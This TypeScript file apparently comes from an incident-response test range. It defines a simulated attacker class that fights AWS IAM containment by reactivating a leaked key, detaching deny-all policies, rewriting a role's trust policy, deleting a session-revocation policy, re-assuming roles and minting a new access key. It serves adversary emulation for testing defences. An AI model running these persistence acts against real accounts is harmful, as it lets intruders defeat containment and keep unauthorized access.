import type {IAM} from '@aws-sdk/client-iam';
import type {Keys} from '../range/harness.ts';
import {trust} from '../range/harness.ts';
import type {Incident} from './account.ts';
import type {Loot} from './lineage.ts';

/**
 * An attacker that fights back for as long as any of its credentials works, as `notyet` does inside IAM's consistency gap
 * (field guide §3): one act after the other, each with whatever credential still may, it switches keys on, detaches
 * denials, reopens trust policies, takes its roles again and makes itself another key.
 */
export class Fighter {
	/** All that it ever held, by name; roles that it takes again under new names. */
	readonly loot: Record<string, Keys>;
	readonly #incident: Incident;
	readonly #leaked: string;
	readonly #ended = new AbortController();
	#taken = 0;
	/** How many of its acts against containment AWS carried out. */
	successes = 0;
	#running: Promise<void> = Promise.resolve();

	constructor(incident: Incident, leaked: string, loot: Loot) {
		this.#incident = incident;
		this.#leaked = leaked;
		this.loot = {...loot};
	}

	/** @param pace ms between two acts. */
	start(pace: number): void {
		const acts = this.#acts();
		this.#running = (async () => {
			for (let turn = 0; !this.#ended.signal.aborted; turn++) {
				await acts[turn % acts.length]?.();
				await new Promise(resolve => setTimeout(resolve, pace));
			}
		})();
	}

	async stop(): Promise<void> {
		this.#ended.abort();
		await this.#running;
	}

	#acts(): readonly (() => Promise<void>)[] {
		const byAny = (act: (iam: IAM) => Promise<unknown>) => () =>
			this.#attempt(keys => act(this.#incident.iamOf(keys)));
		const anybody = trust(`arn:aws:iam::${this.#incident.range.world.accountId}:root`);
		const PolicyArn = 'arn:aws:iam::aws:policy/AWSDenyAll';
		return [
			byAny(iam => iam.updateAccessKey({UserName: 'app', AccessKeyId: this.#leaked, Status: 'Active'})),
			this.#takeAgain('deploy'),
			byAny(iam => iam.detachUserPolicy({UserName: 'app', PolicyArn})),
			byAny(iam => iam.updateAssumeRolePolicy({RoleName: 'deploy', PolicyDocument: anybody})),
			this.#takeAgain('ring-a'),
			byAny(iam => iam.deleteRolePolicy({RoleName: 'edge-exec', PolicyName: 'AWSRevokeOlderSessions'})),
			byAny(iam => iam.detachUserPolicy({UserName: 'svc-agent', PolicyArn})),
			byAny(async iam => {
				const {AccessKey} = await iam.createAccessKey({UserName: 'svc-agent'});
				this.loot['second'] = {
					accessKeyId: AccessKey?.AccessKeyId ?? '',
					secretAccessKey: AccessKey?.SecretAccessKey ?? '',
				};
			}),
		];
	}

	#takeAgain(role: string): () => Promise<void> {
		return () =>
			this.#attempt(async keys => {
				const taken = await this.#incident.take(keys, role);
				this.#taken += 1;
				this.loot[`${role} again ${this.#taken}`] = taken;
			});
	}

	/** Tries its credentials, the newest first, until one does it. */
	async #attempt(act: (keys: Keys) => Promise<unknown>): Promise<void> {
		for (const keys of Object.values(this.loot).toReversed()) {
			if (this.#ended.signal.aborted) return;
			try {
				await act(keys);
				this.successes += 1;
				return;
			} catch {
				// The next one may.
			}
		}
	}
}
